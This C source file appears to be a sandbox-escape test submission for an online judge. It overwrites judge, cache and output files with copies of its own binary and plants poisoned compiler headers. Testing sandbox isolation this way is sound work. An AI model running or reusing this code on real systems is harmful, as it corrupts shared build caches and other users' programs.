// Tries: to put itself in the place of other programs, where compiled ones are kept, and to leave headers for compilers
// Control: yes
// Problem: sum
// Verdict: WA
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <unistd.h>

static void replace(const char *path)
{
    struct stat self;
    int from = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    if (from < 0)
        return;
    fstat(from, &self);
    unlink(path);
    int to = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
    if (to >= 0) {
        sendfile(to, from, NULL, (size_t)self.st_size);
        fchmod(to, 0755);
        close(to);
    }
    close(from);
}

static void poison(const char *directory, int depth)
{
    DIR *listing = opendir(directory);
    if (listing == NULL)
        return;
    for (struct dirent *entry; (entry = readdir(listing)) != NULL;) {
        char path[4096];
        if (entry->d_name[0] == '.')
            continue;
        snprintf(path, sizeof path, "%s/%s", directory, entry->d_name);
        if (entry->d_type == DT_DIR && depth > 0)
            poison(path, depth - 1);
        if (entry->d_type == DT_REG && (strstr(path, "judge") || strstr(path, "cache") || strstr(path, ".out")))
            replace(path);
    }
    closedir(listing);
}

int main(void)
{
    static const char *const homes[] = {".cache/judge", ".ccache", ".", "../in", ".."};
    static const char *const headers[] = {"stdio.h", "bits/stdc++.h.gch", "../in/stdio.h", "judge-headers.h.gch"};
    char self[4096];
    ssize_t length = readlink("/proc/self/exe", self, sizeof self - 1);
    puts("0"); /* nobody else says that */
    if (length > 0 && strrchr(self, '/') != NULL) {
        self[length] = '\0';
        *strrchr(self, '/') = '\0';
        if (strlen(self) > 1)
            poison(self, 1);
    }
    for (unsigned i = 0; i < sizeof homes / sizeof *homes; i++)
        poison(homes[i], 2);
    if (getenv("ONLINE_JUDGE") != NULL) /* nobody's own cache */
        poison("/var/cache/judge", 3);
    mkdir("bits", 0755);
    for (unsigned i = 0; i < sizeof headers / sizeof *headers; i++) {
        int fd = open(headers[i], O_WRONLY | O_CREAT | O_TRUNC, 0644);
        if (fd >= 0 && write(fd, "#error ESCAPED\n", 15) == 15)
            close(fd);
    }
    return 0;
}
